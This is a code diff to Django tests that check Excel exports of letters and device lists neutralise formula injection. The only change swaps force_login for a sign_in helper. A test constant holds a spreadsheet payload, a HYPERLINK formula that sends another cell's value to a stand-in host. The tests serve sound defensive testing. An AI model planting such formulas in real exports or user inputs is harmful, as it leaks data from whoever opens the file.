@@ -9,6 +9,7 @@ from openpyxl import load_workbook
 from devices.choices import DeviceStatus
 from tests import factories as f
 from tests.factories import letter_draft, letter_row_add
+from tests.helpers import sign_in
 
 pytestmark = pytest.mark.django_db
 FORMULA = '=HYPERLINK("http://x"&D3,"Xem")'
@@ -28,7 +29,7 @@ def _assert_no_formula(cells):
 def test_the_letter_export_writes_a_formula_name_as_text(client, cast):
     cert_request = letter_draft(cast)
     letter_row_add(cert_request, cast.clerk_a, full_name=FORMULA)
-    client.force_login(cast.clerk_a)
+    sign_in(client, cast.clerk_a)
     response = client.get(reverse("requests_app:export", args=[cert_request.pk]))
     cells = _cells(response.content)
     _assert_no_formula(cells)
@@ -44,7 +45,7 @@ def test_the_device_export_writes_a_formula_name_as_text_and_serials_as_text(cli
     device = f.DeviceFactory(
         agency=cast.agency_a, holder=cast.subscriber, status=DeviceStatus.HANDED_TO_SUBSCRIBER
     )
-    client.force_login(cast.ca_operator)
+    sign_in(client, cast.ca_operator)
     response = client.get(reverse("devices:list"), {"xuat": "xlsx"})
     cells = _cells(response.content)
     _assert_no_formula(cells)
@@ -60,7 +61,7 @@ def test_every_formula_trigger_is_neutralised_and_phones_stay_text(client, cast,
     cert_request = letter_draft(cast)
     row = letter_row_add(cert_request, cast.clerk_a)
     type(row).objects.filter(pk=row.pk).update(full_name=payload)  # as a hostile import would
-    client.force_login(cast.clerk_a)
+    sign_in(client, cast.clerk_a)
     cells = _cells(client.get(reverse("requests_app:export", args=[cert_request.pk])).content)
     assert not [c for c in cells if c.data_type == "f"]
     name = next(c for c in cells if isinstance(c.value, str) and c.value.endswith("!A0"))
